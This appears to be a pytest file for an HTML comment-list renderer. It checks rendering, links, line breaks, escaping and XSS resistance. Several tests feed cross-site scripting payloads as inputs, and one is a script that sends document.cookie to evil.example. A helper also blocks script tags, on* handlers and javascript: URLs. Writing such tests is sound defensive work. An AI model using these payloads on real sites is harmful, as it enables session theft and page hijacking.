from html.parser import HTMLParser


class _Tree(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.stack = []
        self.texts = {}

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        if tag != "br":
            self.stack.append((tag, dict(attrs).get("class")))

    def handle_endtag(self, tag):
        for i in range(len(self.stack) - 1, -1, -1):
            if self.stack[i][0] == tag:
                del self.stack[i:]
                break

    def handle_data(self, data):
        for tag, cls in reversed(self.stack):
            key = cls or tag
            if key in ("author", "p"):
                self.texts.setdefault(key, []).append(data)
                break


def _parse(html):
    assert isinstance(html, str), f"expected str, got {type(html).__name__}"
    t = _Tree()
    t.feed(html)
    t.close()
    return t


def _items(html):
    """Splits the fragment per <li> and returns (author text, body text, tree) for each."""
    body = html.strip()
    assert body.startswith('<ul class="comments">') and body.endswith("</ul>"), f"unexpected wrapper: {html[:80]!r}"
    parts = body[len('<ul class="comments">'):-len("</ul>")].split('<li class="comment">')
    out = []
    for part in parts[1:]:
        t = _parse('<li class="comment">' + part)
        out.append(("".join(t.texts.get("author", [])), "".join(t.texts.get("p", [])), t))
    return out


def _assert_inert(html):
    t = _parse(html)
    for tag, attrs in t.elements:
        assert tag not in ("script", "iframe", "object", "embed", "svg", "img"), f"live <{tag}> element in output: {html!r}"
        for name, value in attrs:
            assert not name.lower().startswith("on"), f"event handler attribute {name} on <{tag}>: {html!r}"
            if name.lower() in ("href", "src"):
                v = "".join((value or "").split()).lower()
                assert not v.startswith("javascript:"), f"javascript URL in {name}: {html!r}"
    return t


def test_renders_author_and_body(ctx):
    html = ctx.call([{"author": "Ana", "website": None, "body": "Great post"},
                     {"author": "Bo", "website": None, "body": "Thanks!"}])
    items = _items(html)
    assert [(a, b) for a, b, _ in items] == [("Ana", "Great post"), ("Bo", "Thanks!")], f"got {[(a, b) for a, b, _ in items]!r}"


def test_links_http_website(ctx):
    html = ctx.call([{"author": "Ana", "website": "https://ana.example/blog?x=1&y=2", "body": "Hi"}])
    items = _items(html)
    links = [dict(a) for tag, a in items[0][2].elements if tag == "a"]
    assert links and links[0].get("href") == "https://ana.example/blog?x=1&y=2", f"expected link to the website, got {html!r}"
    assert links[0].get("rel") == "nofollow", f"expected rel=nofollow, got {html!r}"
    assert items[0][0] == "Ana", f"author text should be 'Ana', got {items[0][0]!r}"


def test_line_breaks_become_br(ctx):
    html = ctx.call([{"author": "Ana", "website": None, "body": "line one\nline two"}])
    items = _items(html)
    assert [t for t, _ in items[0][2].elements].count("br") == 1, f"expected one <br>, got {html!r}"
    assert items[0][1] == "line oneline two", f"body text differs: {items[0][1]!r}"


def test_shows_special_characters_verbatim(ctx):
    html = ctx.call([{"author": "Tom & Jerry", "website": None, "body": "I <3 \"quotes\" & 'apostrophes' 5 > 3"}])
    items = _items(html)
    assert items[0][0] == "Tom & Jerry", f"author reads {items[0][0]!r}"
    assert items[0][1] == "I <3 \"quotes\" & 'apostrophes' 5 > 3", f"body reads {items[0][1]!r}"


def test_empty_list(ctx):
    html = ctx.call([])
    assert html.strip() == '<ul class="comments"></ul>', f"got {html!r}"


def test_script_in_body(ctx):
    payload = "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    html = ctx.call([{"author": "Eve", "website": None, "body": "nice " + payload}])
    _assert_inert(html)


def test_event_handler_in_author(ctx):
    html = ctx.call([{"author": "<img src=x onerror=alert(document.domain)>", "website": None, "body": "hi"}])
    _assert_inert(html)


def test_attribute_breakout_in_website(ctx):
    html = ctx.call([{"author": "Eve", "website": 'https://ok.example/" onmouseover="alert(1)', "body": "hi"}])
    t = _assert_inert(html)
    for tag, attrs in t.elements:
        if tag == "a":
            assert {n for n, _ in attrs} <= {"href", "rel"}, f"link gained attributes {attrs!r}"


def test_javascript_url_in_website(ctx):
    html = ctx.call([{"author": "Eve", "website": " JavaScript:alert(1)", "body": "hi"}])
    _assert_inert(html)
